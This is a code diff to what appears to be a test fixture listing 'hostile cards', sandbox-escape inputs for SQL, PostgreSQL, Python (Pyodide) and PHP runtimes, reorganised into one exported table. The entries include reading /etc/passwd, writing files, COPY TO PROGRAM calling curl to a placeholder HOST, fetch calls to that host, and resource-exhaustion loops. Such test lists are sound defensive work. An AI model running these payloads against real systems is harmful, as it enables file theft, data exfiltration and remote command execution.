@@ -198,7 +198,7 @@ export const hostileJavaScript: readonly HostileCard[] = [
   attack('closing itself', `close()`),
 ];
 
-export const hostileSql: readonly HostileCard[] = [
+const hostileSql: readonly HostileCard[] = [
   attack('attaching a file', `ATTACH 'stolen' AS stolen`),
   attack('attaching a URI', `ATTACH 'file:stolen?vfs=kvvfs' AS stolen`),
   attack('writing a file', `VACUUM INTO 'stolen'`),
@@ -223,7 +223,7 @@ export const hostileSql: readonly HostileCard[] = [
   attack('what is left behind', `CREATE TABLE stolen (x); CREATE TEMP TABLE also_stolen (x); SELECT 1`),
 ];
 
-export const hostilePostgresql: readonly HostileCard[] = [
+const hostilePostgresql: readonly HostileCard[] = [
   attack('reading a file', `SELECT pg_read_file('/etc/passwd')`),
   attack('writing a file', `COPY (SELECT 'stolen') TO '/tmp/stolen'`),
   attack('a process', `COPY (SELECT 1) TO PROGRAM 'curl http://HOST/program'`),
@@ -255,7 +255,7 @@ export const hostilePostgresql: readonly HostileCard[] = [
   ),
 ];
 
-export const hostilePython: readonly HostileCard[] = [
+const hostilePython: readonly HostileCard[] = [
   attack('the page’s JavaScript', `import js; js.fetch('http://HOST/js')`),
   attack('JavaScript as text', `from pyodide.code import run_js; run_js("fetch('http://HOST/run_js')")`),
   attack(
@@ -287,7 +287,7 @@ export const hostilePython: readonly HostileCard[] = [
   exhausting('an output flood', `for _ in range(20000): print('x' * 100)`),
 ];
 
-export const hostilePhp: readonly HostileCard[] = [
+const hostilePhp: readonly HostileCard[] = [
   attack('JavaScript as text', `return vrzno_eval("fetch('http://HOST/eval')");`),
   attack('a function of JavaScript', `return vrzno_run('fetch', ['http://HOST/run']);`),
   attack('the bridge to JavaScript', `return (new Vrzno)->fetch('http://HOST/bridge');`),
@@ -351,3 +351,12 @@ export const hostilePhp: readonly HostileCard[] = [
     `return fseek($f = fopen('/tmp/x', 'w'), 2000000000) + (int) ftruncate($f, 2000000000);`,
   ),
 ];
+
+/** All hostile cards, by the language of the runtime that they attack. */
+export const hostileCards = [
+  ['javascript', hostileJavaScript],
+  ['sql', hostileSql],
+  ['postgresql', hostilePostgresql],
+  ['python', hostilePython],
+  ['php', hostilePhp],
+] as const;
